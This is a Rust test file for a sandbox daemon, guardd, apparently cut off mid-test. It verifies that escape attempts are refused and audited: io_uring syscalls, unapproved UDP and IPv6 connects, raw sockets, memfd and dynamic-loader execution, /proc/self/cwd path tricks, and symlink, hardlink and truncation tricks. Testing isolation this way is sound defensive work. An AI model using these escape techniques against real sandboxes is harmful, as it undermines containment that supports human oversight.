//! Escape attempts from inside an approved call. Each test runs `guard-testtool` through a real
//! guardd under a policy that allows one narrow effect, tries a way out, and asserts that the
//! attempt fails, that the failure is reported (exit code, errno on stderr, audit receipt), and
//! that a conforming control in the same test succeeds, so no test passes because nothing runs.
//!
//! An attempt that gets through is not weakened here: its test is `#[ignore = "open: ..."]`.

use std::{
    fs,
    os::unix::{fs::PermissionsExt as _, process::CommandExt as _},
    path::Path,
    process::{Command, Output},
    time::Duration,
};

use super::support::{self, Guardd, ToolDir, output};

/// How many `{aN}` argument slots the test tool's command has.
const SLOTS: usize = 12;

/// A copy of `guard-testtool` in a directory `guard-tool` can traverse, and a workspace.
pub(super) struct Setup(ToolDir);

impl std::ops::Deref for Setup {
    type Target = ToolDir;
    fn deref(&self) -> &ToolDir {
        &self.0
    }
}

impl Setup {
    pub(super) fn new() -> Self {
        Self(ToolDir::new("guard-escape"))
    }

    /// A policy with one tool, `tt`, running the test tool with up to [`SLOTS`] string
    /// arguments; `effects` is the body of `[tools.tt.effects]`, `extra` more TOML.
    pub(super) fn policy(&self, effects: &str, extra: &str) -> String {
        let slots: Vec<String> = (0..SLOTS).map(|i| format!("\"{{a{i}}}\"")).collect();
        let mut args = String::new();
        for i in 0..SLOTS {
            args.push_str(&format!(
                "[tools.tt.args.a{i}]\ntype = \"string\"\nrequired = false\n"
            ));
        }
        format!(
            r#"
[settings]
max_allowed_tier = "high"
escalation_threshold = "high"
disclose_reasons = true

[tools.tt]
tier = "low"
command = ["{tool}", {slots}]
timeout = 20
{args}
[tools.tt.effects]
{effects}
{extra}
"#,
            tool = self.tool.display(),
            slots = slots.join(", "),
        )
    }
}

/// Runs the test tool's `actions` through guardd.
pub(super) fn call(guardd: &Guardd, actions: &[&str]) -> Output {
    assert!(actions.len() <= SLOTS, "too many actions");
    let pairs: Vec<String> = actions
        .iter()
        .enumerate()
        .map(|(i, a)| format!("a{i}={a}"))
        .collect();
    let pairs: Vec<&str> = pairs.iter().map(String::as_str).collect();
    output(guardd.exec("tt", &pairs))
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Asserts the call ran and its one failing action failed with `errno` (one of `A|B`: a write
/// outside what a call may change meets its read-only mount view, EROFS, or landlock, EACCES,
/// whichever the syscall checks first).
#[track_caller]
fn assert_errno(out: &Output, errno: &str) {
    assert_eq!(
        out.status.code(),
        Some(1),
        "stdout {:?} stderr {:?}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(
        errno
            .split('|')
            .any(|e| text(&out.stderr).starts_with(&format!("ERR {e} "))),
        "expected {errno}: stderr {:?}",
        text(&out.stderr)
    );
}

#[track_caller]
fn assert_ok(out: &Output) {
    assert_eq!(
        out.status.code(),
        Some(0),
        "the conforming control failed: stdout {:?} stderr {:?}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

/// The receipt (`finished` row) of the last call that ended.
pub(super) fn last_receipt(guardd: &Guardd) -> serde_json::Value {
    guardd
        .audit_rows()
        .into_iter()
        .rev()
        .find(|r| r["kind"] == "finished")
        .expect("a finished row")
}

/// The last call's receipt is `diverged` by a write-open of `path`, refused and seen.
#[track_caller]
fn assert_write_attempt(guardd: &Guardd, path: &str) {
    let row = last_receipt(guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let tried = seen["divergences"].as_array().is_some_and(|d| {
        d.iter()
            .any(|d| d["effect"] == "write_open" && d["path"] == path)
    });
    assert!(tried, "no write_open of {path}: {row:#}");
}

#[track_caller]
fn assert_verdict(guardd: &Guardd, verdict: &str) {
    let row = last_receipt(guardd);
    assert_eq!(row["effects_observed"]["verdict"], verdict, "{row:#}");
}

/// The call cgroups that still exist under the guard's cgroup.
fn call_cgroups(guardd: &Guardd) -> usize {
    let root = guard::sandbox::cgroup::unified_mount()
        .expect("cgroup v2")
        .join(&guardd.cgroup);
    fs::read_dir(root)
        .map(|d| {
            d.filter_map(Result::ok)
                .filter(|e| e.path().is_dir())
                .count()
        })
        .unwrap_or(0)
}

#[test]
fn escape_io_uring_is_refused() {
    if !support::privileged("escape_io_uring_is_refused") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    assert_ok(&call(&guardd, &["ids"]));
    // seccomp: io_uring would carry reads, writes and connects past every syscall filter.
    assert_errno(&call(&guardd, &["io_uring"]), "EPERM");
    // The x32 twin of io_uring_setup is not a way around: seccomp kills the process, and the
    // kernel's report of it makes guardd take the call (137, receipt `diverged`).
    let out = call(&guardd, &["syscall", "0x400001a9"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    let row = last_receipt(&guardd);
    assert_eq!(row["effects_observed"]["seccomp_kills"], 1, "{row:#}");
}

#[test]
fn escape_udp_reaches_no_unapproved_destination() {
    if !support::privileged("escape_udp_reaches_no_unapproved_destination") {
        return;
    }
    let approved = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = approved.local_addr().expect("addr").port();
    // UDP listeners on the approved port of the approved address and of another address.
    let same = std::net::UdpSocket::bind(("127.0.0.1", port)).expect("bind udp");
    let other = std::net::UdpSocket::bind(("127.0.0.2", port)).expect("bind udp 127.0.0.2");
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(
        &format!("connect = [\"127.0.0.1:{port}\"]\non_divergence = \"deny\""),
        "",
    ));
    assert_ok(&call(&guardd, &["connect", &format!("127.0.0.1:{port}")]));
    assert_verdict(&guardd, "conformed");
    // eBPF cgroup/sendmsg4: a connect effect approves TCP only, and only to its address.
    for to in [format!("127.0.0.2:{port}"), format!("127.0.0.1:{port}")] {
        assert_errno(&call(&guardd, &["sendto", &to]), "EPERM");
        assert_verdict(&guardd, "diverged");
    }
    for sock in [same, other] {
        sock.set_nonblocking(true).expect("nonblocking");
        let mut buf = [0u8; 64];
        assert!(sock.recv(&mut buf).is_err(), "a datagram arrived");
    }
}

#[test]
fn escape_raw_and_packet_sockets_are_refused() {
    if !support::privileged("escape_raw_and_packet_sockets_are_refused") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("connect = [\"127.0.0.1:9\"]", ""));
    assert_ok(&call(&guardd, &["socket", "inet", "stream"]));
    // seccomp: only AF_UNIX, and AF_INET/AF_INET6 of type stream or dgram when connects are
    // approved. guard-tool lacks CAP_NET_RAW too, but seccomp answers first (see sandbox.rs
    // for the same check as root).
    for (family, ty) in [
        ("inet", "raw"),
        ("inet6", "raw"),
        ("packet", "raw"),
        ("packet", "dgram"),
        ("netlink", "raw"),
    ] {
        assert_errno(&call(&guardd, &["socket", family, ty]), "EPERM");
    }
}

#[test]
fn escape_ipv6_and_v4_mapped_addresses_do_not_reach_an_approved_v4_host() {
    if !support::privileged("escape_ipv6_and_v4_mapped_addresses_do_not_reach_an_approved_v4_host")
    {
        return;
    }
    // A dual-stack listener: it would accept 127.0.0.1, ::1 and ::ffff:127.0.0.1 alike.
    let listener = std::net::TcpListener::bind("[::]:0").expect("bind [::]");
    let port = listener.local_addr().expect("addr").port();
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(
        &format!("connect = [\"127.0.0.1:{port}\"]\non_divergence = \"deny\""),
        "",
    ));
    assert_ok(&call(&guardd, &["connect", &format!("127.0.0.1:{port}")]));
    listener.set_nonblocking(true).expect("nonblocking");
    assert!(listener.accept().is_ok(), "the control connection arrived");
    // eBPF cgroup/connect6: the allow-list holds the v4 address only; landlock (ports only)
    // lets both through.
    for to in [
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
    ] {
        assert_errno(&call(&guardd, &["connect", &to]), "EPERM");
        assert_verdict(&guardd, "diverged");
        let row = last_receipt(&guardd);
        assert_eq!(
            row["effects_observed"]["connects"][0]["allowed"], false,
            "{row:#}"
        );
    }
    assert!(listener.accept().is_err(), "a denied connection arrived");
}

#[test]
fn escape_the_approved_host_on_another_port_is_refused() {
    if !support::privileged("escape_the_approved_host_on_another_port_is_refused") {
        return;
    }
    let approved = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let other = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = approved.local_addr().expect("addr").port();
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(
        &format!("connect = [\"127.0.0.1:{port}\"]\non_divergence = \"deny\""),
        "",
    ));
    assert_ok(&call(&guardd, &["connect", &format!("127.0.0.1:{port}")]));
    assert_verdict(&guardd, "conformed");
    // The cgroup connect program judges it (landlock, which would refuse first and silently,
    // handles no TCP right for a watched call): refused, and on the receipt, untraced.
    let to = other.local_addr().expect("addr").to_string();
    assert_errno(&call(&guardd, &["connect", &to]), "EPERM");
    other.set_nonblocking(true).expect("nonblocking");
    assert!(other.accept().is_err(), "the other port saw a connection");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let other_port = other.local_addr().expect("addr").port();
    assert_eq!(seen["connects"][0]["port"], other_port, "{row:#}");
    assert_eq!(seen["connects"][0]["allowed"], false, "{row:#}");
    assert_eq!(seen["divergences"][0]["effect"], "connect", "{row:#}");
    assert_eq!(
        seen["divergences"][0]["layer"], "eBPF cgroup connect/sendmsg",
        "{row:#}"
    );
}

#[test]
fn escape_memfd_fexecve_is_killed() {
    if !support::privileged("escape_memfd_fexecve_is_killed") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    // Control: exec of the approved program itself (argv[0] is always approved).
    let tool = s.tool.display().to_string();
    let out = call(&guardd, &["exec", &tool, "ids"]);
    assert_ok(&out);
    assert!(text(&out.stdout).contains("euid="), "{out:?}");
    assert_verdict(&guardd, "conformed");
    // landlock does not govern memfd files (an internal mount); the exec tracepoint sees an
    // image that is not on the allow-list and kills it before it runs.
    let out = call(&guardd, &["memfd-exec", "ids"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert!(!text(&out.stdout).contains("euid="), "the memfd image ran");
    assert_verdict(&guardd, "diverged");
}

#[test]
fn escape_execveat_and_the_dynamic_loader_are_killed() {
    if !support::privileged("escape_execveat_and_the_dynamic_loader_are_killed") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("exec = [\"/usr/bin/true\"]", ""));
    assert_ok(&call(&guardd, &["exec", "/usr/bin/true"]));
    assert_verdict(&guardd, "conformed");
    let ld = "/lib64/ld-linux-x86-64.so.2";
    if !Path::new(ld).exists() {
        panic!("{ld} missing: this test is written for x86_64 glibc hosts");
    }
    // The loader is executable as far as landlock knows (every program needs it), so it can
    // run a readable program that was never approved: the exec tracepoint kills it.
    let out = call(
        &guardd,
        &["exec", ld, "/usr/lib/x86_64-linux-gnu/libc.so.6"],
    );
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
    let out = call(
        &guardd,
        &[
            "execveat",
            "/lib64",
            "ld-linux-x86-64.so.2",
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
        ],
    );
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
    // A program outside every exec rule: landlock refuses the execve itself, and the call's
    // exec judge saw it try: diverged, and killed as any divergence of a call that kills.
    let out = call(&guardd, &["exec", "/bin/sh", "-c", "true"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
}

#[test]
fn escape_a_program_the_call_may_read_but_not_run_is_killed_and_reported_untraced() {
    if !support::privileged(
        "escape_a_program_the_call_may_read_but_not_run_is_killed_and_reported_untraced",
    ) {
        return;
    }
    let s = Setup::new();
    let marker = s.subdir("out", 0o777).join("touched");
    let guardd = Guardd::start(&s.policy(
        &format!(
            "read = [\"/usr/bin\"]\nexec = [\"/usr/bin/true\"]\nwrite = [\"{}\"]\non_divergence = \"deny\"",
            marker.parent().expect("dir").display()
        ),
        "",
    ));
    // Control: the approved program conforms.
    assert_ok(&call(&guardd, &["exec", "/usr/bin/true"]));
    assert_verdict(&guardd, "conformed");
    // touch may be read, not run. landlock, which refused it silently (EACCES, and a tool that
    // ignores the error exits 0, `conformed`), leaves it to the exec check for a watched call:
    // killed before its first instruction, and on the receipt, untraced (the event stream:
    // events::follow_shows_attempts_no_layer_hides).
    let out = call(
        &guardd,
        &["exec", "/usr/bin/touch", &marker.display().to_string()],
    );
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert!(!marker.exists(), "touch ran");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(seen["divergences"][0]["effect"], "exec", "{row:#}");
    assert_eq!(
        seen["divergences"][0]["layer"], "eBPF exec tracepoint",
        "{row:#}"
    );
    assert!(
        seen["divergences"][0]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("/touch")),
        "{row:#}"
    );
}

#[test]
fn escape_a_write_outside_the_call_s_effects_is_refused_and_reported_untraced() {
    if !support::privileged(
        "escape_a_write_outside_the_call_s_effects_is_refused_and_reported_untraced",
    ) {
        return;
    }
    let s = Setup::new();
    let out = s.subdir("out", 0o777);
    // Writable by anyone as far as file modes go: only the call's effects keep it out.
    let other = s.subdir("other", 0o777);
    let existing = other.join("existing");
    fs::write(&existing, "kept").expect("write");
    fs::set_permissions(&existing, fs::Permissions::from_mode(0o666)).expect("chmod");
    let guardd = Guardd::start(&s.policy(
        &format!("write = [\"{}\"]\non_divergence = \"deny\"", out.display()),
        "",
    ));
    // Control: writes within its effects and to /dev/null conform.
    let allowed = out.join("allowed").display().to_string();
    let control = call(
        &guardd,
        &["write", &allowed, "ok", "--", "write", "/dev/null", "x"],
    );
    assert_ok(&control);
    assert_verdict(&guardd, "conformed");
    // A new file outside: refused (the read-only mount view, EROFS), and on the receipt, though
    // nothing traces syscalls.
    let created = other.join("created");
    let tried = call(&guardd, &["write", &created.display().to_string(), "x"]);
    assert_eq!(tried.status.code(), Some(1), "{tried:?}");
    assert!(!created.exists(), "the write went through");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let first = &seen["divergences"][0];
    assert_eq!(first["effect"], "write_open", "{row:#}");
    assert_eq!(first["path"], created.display().to_string(), "{row:#}");
    assert_eq!(first["action"], "deny", "{row:#}");
    assert_eq!(
        first["layer"], "the read-only mount view and landlock",
        "{row:#}"
    );
    // An existing file, by a name relative to the working directory: the same.
    let other_dir = other.display().to_string();
    let tried = call(
        &guardd,
        &["chdir", &other_dir, "--", "append", "existing", "y"],
    );
    assert_eq!(tried.status.code(), Some(1), "{tried:?}");
    assert_eq!(fs::read_to_string(&existing).expect("read"), "kept");
    let row = last_receipt(&guardd);
    let first = &row["effects_observed"]["divergences"][0];
    assert_eq!(first["effect"], "write_open", "{row:#}");
    assert_eq!(first["path"], existing.display().to_string(), "{row:#}");
    // Names that mean another file to guardd than to the call are found as the call finds
    // them: procfs's `self` however spelt, and a dangling link created through.
    let dangling = s.subdir("links", 0o755).join("dangling");
    std::os::unix::fs::symlink(other.join("through-link"), &dangling).expect("symlink");
    for (name, lands) in [
        (
            "/proc/./self/cwd/via-proc".to_owned(),
            other.join("via-proc"),
        ),
        (
            "//proc/self/cwd/via-slashes".to_owned(),
            other.join("via-slashes"),
        ),
        (dangling.display().to_string(), other.join("through-link")),
    ] {
        let tried = call(&guardd, &["chdir", &other_dir, "--", "write", &name, "x"]);
        assert_eq!(tried.status.code(), Some(1), "{name}: {tried:?}");
        assert!(!lands.exists(), "{name}: the write went through");
        let row = last_receipt(&guardd);
        let first = &row["effects_observed"]["divergences"][0];
        assert_eq!(first["effect"], "write_open", "{name}: {row:#}");
        assert_eq!(
            first["path"],
            lands.display().to_string(),
            "{name}: {row:#}"
        );
    }
    // Names that guardd once judged from elsewhere than the kernel opens them (attack45): a
    // thread with a working directory of its own (in the writable `out`) opening
    // `/proc/self/cwd/...`, which is the process's (`other`); an absolute name beside a
    // directory descriptor that is none, which the kernel ignores.
    let (out_s, via_thread, via_bad_fd) = (
        out.display().to_string(),
        other.join("via-thread"),
        other.join("via-bad-dirfd"),
    );
    let thread = [
        "chdir",
        &other_dir,
        "--",
        "thread-write-self-cwd",
        &out_s,
        "via-thread",
        "x",
    ];
    let bad_fd_name = via_bad_fd.display().to_string();
    let bad_fd = ["write-at-bad-dirfd", bad_fd_name.as_str(), "x"];
    for (args, lands) in [(&thread[..], &via_thread), (&bad_fd[..], &via_bad_fd)] {
        let tried = call(&guardd, args);
        assert_eq!(tried.status.code(), Some(1), "{args:?}: {tried:?}");
        assert!(!lands.exists(), "{args:?}: the write went through");
        assert!(!out.join("via-thread").exists(), "{args:?}: landed in out");
        assert_write_attempt(&guardd, &lands.display().to_string());
    }
    drop(guardd);
    // Where divergences end the call, this one does: the attempt is killed with the rest.
    let guardd = Guardd::start(&s.policy(
        &format!("write = [\"{}\"]\non_divergence = \"kill\"", out.display()),
        "",
    ));
    let tried = call(
        &guardd,
        &[
            "write",
            &created.display().to_string(),
            "x",
            "--",
            "sleep",
            "5",
        ],
    );
    assert_eq!(tried.status.code(), Some(137), "{tried:?}");
    let row = last_receipt(&guardd);
    assert_eq!(row["effects_observed"]["stopped"], true, "{row:#}");
    assert_eq!(
        row["effects_observed"]["divergences"][0]["action"], "kill",
        "{row:#}"
    );
}

#[test]
fn escape_an_approved_script_cannot_bring_an_unapproved_interpreter() {
    if !support::privileged("escape_an_approved_script_cannot_bring_an_unapproved_interpreter") {
        return;
    }
    let s = Setup::new();
    let bin = s.subdir("bin", 0o755);
    let marker = s.subdir("out", 0o777).join("marker");
    let script = bin.join("run.sh");
    fs::write(
        &script,
        format!("#!/bin/sh\necho ran > {}\n", marker.display()),
    )
    .expect("write script");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod");
    let guardd = Guardd::start(&s.policy(
        &format!(
            "exec = [\"{}\", \"/usr/bin/true\"]\nwrite = [\"{}\"]",
            script.display(),
            marker.parent().expect("dir").display()
        ),
        "",
    ));
    assert_ok(&call(&guardd, &["exec", "/usr/bin/true"]));
    // landlock checks the interpreter of a `#!` script too: /bin/sh has no execute right.
    let script = script.display().to_string();
    assert_errno(&call(&guardd, &["exec", &script]), "EACCES");
    assert!(!marker.exists(), "the script ran");
}

#[test]
fn escape_symlinks_and_hardlinks_do_not_widen_file_access() {
    if !support::privileged("escape_symlinks_and_hardlinks_do_not_widen_file_access") {
        return;
    }
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let mine = ws.join("mine.txt");
    fs::write(&mine, "mine\n").expect("write");
    fs::set_permissions(&mine, fs::Permissions::from_mode(0o644)).expect("chmod");
    // World-readable and outside the effects: only landlock stands in the way.
    let secret = s.dir.join("secret.txt");
    fs::write(&secret, "secret\n").expect("write");
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o644)).expect("chmod");
    let guardd = Guardd::start(&s.policy(&format!("write = [\"{}\"]", ws.display()), ""));
    let ws_s = ws.display().to_string();
    let link = format!("{ws_s}/to-mine");
    let out = call(
        &guardd,
        &[
            "symlink",
            &mine.display().to_string(),
            &link,
            "--",
            "read",
            &link,
        ],
    );
    assert_ok(&out);
    assert!(text(&out.stdout).ends_with("mine\n"), "{out:?}");

    // A symlink may be made (it is only a name), but opening it resolves to the target, whose
    // access landlock checks.
    let link = format!("{ws_s}/to-secret");
    let out = call(
        &guardd,
        &[
            "symlink",
            &secret.display().to_string(),
            &link,
            "--",
            "read",
            &link,
        ],
    );
    assert_errno(&out, "EACCES");
    assert!(!text(&out.stdout).contains("secret\n"));
    // A hard link of a file outside the effects into the writable tree: landlock refuses
    // linking a file to where it would get rights its source did not give (Refer is granted
    // within write trees only), and fs.protected_hardlinks refuses linking another user's file.
    let hard = format!("{ws_s}/hard-secret");
    let out = call(
        &guardd,
        &[
            "link",
            &secret.display().to_string(),
            &hard,
            "--",
            "read",
            &hard,
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = text(&out.stderr);
    assert!(
        stderr.starts_with("ERR EXDEV ")
            || stderr.starts_with("ERR EACCES ")
            || stderr.starts_with("ERR EPERM "),
        "{stderr}"
    );
    assert!(!Path::new(&hard).exists(), "the hard link was made");
    // `..` in a path the tool opens itself does not climb out either.
    let out = call(&guardd, &["read", &format!("{ws_s}/../secret.txt")]);
    assert_errno(&out, "EACCES");
}

/// The `user.leak` extended attribute of `path`, if it has one.
fn leak_xattr(path: &Path) -> Option<Vec<u8>> {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).expect("no NUL");
    let mut buf = [0u8; 64];
    // SAFETY: c is NUL-terminated; the kernel writes at most buf.len() bytes into buf.
    let n = unsafe {
        libc::getxattr(
            c.as_ptr(),
            c"user.leak".as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    usize::try_from(n).ok().map(|n| buf[..n].to_vec())
}

#[test]
fn escape_file_metadata_outside_the_write_effects_is_refused() {
    if !support::privileged("escape_file_metadata_outside_the_write_effects_is_refused") {
        return;
    }
    use std::os::unix::fs::MetadataExt as _;
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let user = nix::unistd::User::from_name("guard-tool")
        .expect("lookup")
        .expect("guard-tool exists");
    // A file an earlier call left behind: guard-tool's, outside this call's effects. landlock
    // governs opens, not the syscalls that change a file's mode, owner, times or extended
    // attributes by name, and DAC lets the owner make those.
    let theirs = s.subdir("earlier-call", 0o755).join("result.txt");
    fs::write(&theirs, "result\n").expect("write");
    fs::set_permissions(&theirs, fs::Permissions::from_mode(0o600)).expect("chmod");
    std::os::unix::fs::chown(&theirs, Some(user.uid.as_raw()), Some(user.gid.as_raw()))
        .expect("chown");
    let before = fs::metadata(&theirs).expect("stat");
    let guardd = Guardd::start(&s.policy(&format!("write = [\"{}\"]", ws.display()), ""));

    // Control: a file the call may write takes a mode and times through its descriptor
    // (fchmod, futimens: what `touch` and `cp -p` use), which landlock judged at the open.
    let mine = ws.join("mine.txt");
    let mine_s = mine.display().to_string();
    let out = call(
        &guardd,
        &[
            "write", &mine_s, "x", "--", "fchmod", &mine_s, "750", "--", "futime", &mine_s,
        ],
    );
    assert_ok(&out);
    let meta = fs::metadata(&mine).expect("stat");
    assert_eq!(meta.mode() & 0o7777, 0o750, "{out:?}");
    assert_eq!(meta.mtime(), 0, "{out:?}");

    // By name, on the file outside: refused, whichever spelling.
    let theirs_s = theirs.display().to_string();
    for action in [
        &["chmod", theirs_s.as_str(), "666"][..],
        &["chmod-empty-path", theirs_s.as_str(), "666"],
        &["utime", theirs_s.as_str()],
        &["setxattr", theirs_s.as_str(), "user.leak", "secret"],
    ] {
        // The mount view holds it read-only (issue 50: a name's times and modes are set where
        // the call may write, which tar and shutil.copy2 need; everywhere else EROFS).
        let out = call(&guardd, action);
        assert_errno(&out, "EROFS");
    }
    let after = fs::metadata(&theirs).expect("stat");
    assert_eq!(after.mode(), before.mode(), "the mode changed");
    assert_eq!(after.mtime(), before.mtime(), "the times changed");
    assert_eq!(leak_xattr(&theirs), None, "an attribute was written");
    drop(guardd);

    // A call that writes nothing changes no metadata, not even through the descriptor of a file
    // it may read (landlock let it open that one, for reading).
    let guardd = Guardd::start(&s.policy(&format!("read = [\"{theirs_s}\"]"), ""));
    let out = call(&guardd, &["read", &theirs_s]);
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "result\n");
    for action in [
        &["fchmod-read", theirs_s.as_str(), "666"][..],
        &["setflags-read", theirs_s.as_str()],
    ] {
        let out = call(&guardd, action);
        assert_errno(&out, "EPERM");
    }
    let after = fs::metadata(&theirs).expect("stat");
    assert_eq!(after.mode(), before.mode(), "the mode changed");
}

/// A file of guard-tool's, as an earlier call leaves one: `name` in a directory of its own,
/// holding `content`.
fn left_by_an_earlier_call(s: &Setup, dir: &str, name: &str, content: &str) -> std::path::PathBuf {
    let user = nix::unistd::User::from_name("guard-tool")
        .expect("lookup")
        .expect("guard-tool exists");
    let path = s.subdir(dir, 0o777).join(name);
    fs::write(&path, content).expect("write");
    std::os::unix::fs::chown(&path, Some(user.uid.as_raw()), Some(user.gid.as_raw()))
        .expect("chown");
    path
}

#[test]
fn escape_a_file_a_call_may_only_read_is_not_truncated() {
    if !support::privileged("escape_a_file_a_call_may_only_read_is_not_truncated") {
        return;
    }
    // Read rules carry landlock's Truncate (it ends landlock's walk up the tree at them), so
    // truncating by name is seccomp's to refuse, and a widened directory's files keep theirs.
    let s = Setup::new();
    let theirs = left_by_an_earlier_call(&s, "earlier-call", "result.txt", "result\n");
    let theirs_s = theirs.display().to_string();
    let read_dir = theirs.parent().expect("parent").display().to_string();
    let ws = s.subdir("ws", 0o777);
    let mine = ws.join("mine.txt");
    let mine_s = mine.display().to_string();
    let effects = format!(
        "read = [\"{read_dir}\"]\nwrite = [\"{}\"]\non_divergence = \"deny\"",
        ws.display()
    );
    let guardd = Guardd::start(&s.policy(&effects, ""));
    // Control: a file the call may write is truncated through a descriptor.
    let out = call(
        &guardd,
        &["write", &mine_s, "xyz", "--", "ftruncate", &mine_s],
    );
    assert_ok(&out);
    assert_eq!(fs::read(&mine).expect("read").len(), 0);
    let out = call(&guardd, &["read", &theirs_s]);
    assert_ok(&out);
    for (action, errno) in [
        ("truncate", "EPERM"),
        ("ftruncate", "EACCES|EROFS"),
        ("open-rdonly-trunc", "EPERM"),
        ("open-mode3-trunc", "EPERM"),
    ] {
        let out = call(&guardd, &[action, &theirs_s]);
        assert_errno(&out, errno);
        if action == "ftruncate" {
            // Its open for writing is refused, and seen.
            assert_write_attempt(&guardd, &theirs_s);
        }
    }
    assert_eq!(fs::read_to_string(&theirs).expect("read"), "result\n");
    drop(guardd);

    // A plan that allows truncate(2) gets read rules without Truncate: landlock refuses it.
    let policy = s.policy(&effects, "").replacen(
        "timeout = 20\n",
        "timeout = 20\nallow_syscalls = [\"truncate\"]\n",
        1,
    );
    let guardd = Guardd::start(&policy);
    let out = call(
        &guardd,
        &["write", &mine_s, "xyz", "--", "truncate", &mine_s],
    );
    assert_ok(&out);
    assert_eq!(fs::read(&mine).expect("read").len(), 0);
    let out = call(&guardd, &["truncate", &theirs_s]);
    assert_errno(&out, "EACCES|EROFS");
    assert_eq!(fs::read_to_string(&theirs).expect("read"), "result\n");
    drop(guardd);

    // A new file widens its directory to WriteFile without Truncate: the call may write over a
    // file there (documented), but not truncate it, even when it may also read the directory.
    let sibling = left_by_an_earlier_call(&s, "widened", "sibling.txt", "sibling\n");
    let sibling_s = sibling.display().to_string();
    let widened = sibling.parent().expect("parent").display().to_string();
    // A kernel whose landlock has no Truncate right (ABI 1 and 2: Linux before 6.2) could not
    // keep it, so such a call is refused at launch, naming the right.
    let truncate_right =
        guard::sandbox::landlock::kernel_abi() >= guard::sandbox::landlock::abi::TRUNCATE;
    let effects = format!("read = [\"{widened}\"]\nwrite = [\"{widened}/new.txt\"]");
    let guardd = Guardd::start(&s.policy(&effects, ""));
    if truncate_right {
        let out = call(&guardd, &["read", &sibling_s]);
        assert_ok(&out);
    }
    let out = call(&guardd, &["ftruncate", &sibling_s]);
    if truncate_right {
        assert_errno(&out, "EACCES");
    } else {
        assert_refused_without_truncate(&out);
    }
    assert_eq!(fs::read_to_string(&sibling).expect("read"), "sibling\n");
    drop(guardd);

    // The same directory widened through another spelling (root's link to it).
    let alias = s.dir.join("alias");
    std::os::unix::fs::symlink(&widened, &alias).expect("symlink");
    let effects = format!(
        "read = [\"{widened}\"]\nwrite = [\"{}/new.txt\"]",
        alias.display()
    );
    let guardd = Guardd::start(&s.policy(&effects, ""));
    let out = call(&guardd, &["ftruncate", &sibling_s]);
    if truncate_right {
        assert_errno(&out, "EACCES");
    } else {
        assert_refused_without_truncate(&out);
    }
    assert_eq!(fs::read_to_string(&sibling).expect("read"), "sibling\n");
}

/// The call was not launched: its kernel's landlock has no Truncate right, and it says so.
#[track_caller]
fn assert_refused_without_truncate(out: &Output) {
    assert_ne!(out.status.code(), Some(0), "{out:?}");
    assert_ne!(out.status.code(), Some(1), "the tool ran: {out:?}");
    assert!(
        text(&out.stderr).contains("no TRUNCATE right"),
        "stderr {:?}",
        text(&out.stderr)
    );
}

#[test]
fn escape_a_link_a_call_plants_moves_no_other_tool_s_grant() {
    if !support::privileged("escape_a_link_a_call_plants_moves_no_other_tool_s_grant") {
        return;
    }
    // A read, write or exec effect names a path; a call that may write the directory holding
    // it could make that name a symlink to anywhere, and the next call of the tool that reads
    // it would read there (here: a directory no tool may read).
    let s = Setup::new();
    let secret = s.subdir("secret", 0o755);
    fs::write(secret.join("s.txt"), "TOPSECRET\n").expect("write");
    let ws = s.subdir("ws", 0o777);
    let shared = ws.join("shared");
    let guardd = Guardd::start(&s.policy(&format!("write = [\"{}\"]", ws.display()), ""));
    let out = call(
        &guardd,
        &[
            "symlink",
            &secret.display().to_string(),
            &shared.display().to_string(),
        ],
    );
    assert_ok(&out);
    drop(guardd);

    let guardd = Guardd::start(&s.policy(&format!("read = [\"{}\"]", shared.display()), ""));
    let out = call(
        &guardd,
        &["read", &shared.join("s.txt").display().to_string()],
    );
    assert!(!text(&out.stdout).contains("TOPSECRET"), "{out:?}");
    assert_eq!(out.status.code(), Some(70), "{out:?}");
    assert!(
        text(&out.stderr).contains("goes through the symlink"),
        "{out:?}"
    );
    drop(guardd);

    // Control: root's link, in a directory only root may change, is followed.
    let trusted = s.subdir("trusted", 0o755);
    std::os::unix::fs::symlink(&secret, trusted.join("link")).expect("symlink");
    let link = trusted.join("link");
    let guardd = Guardd::start(&s.policy(&format!("read = [\"{}\"]", link.display()), ""));
    let out = call(
        &guardd,
        &["read", &link.join("s.txt").display().to_string()],
    );
    assert_ok(&out);
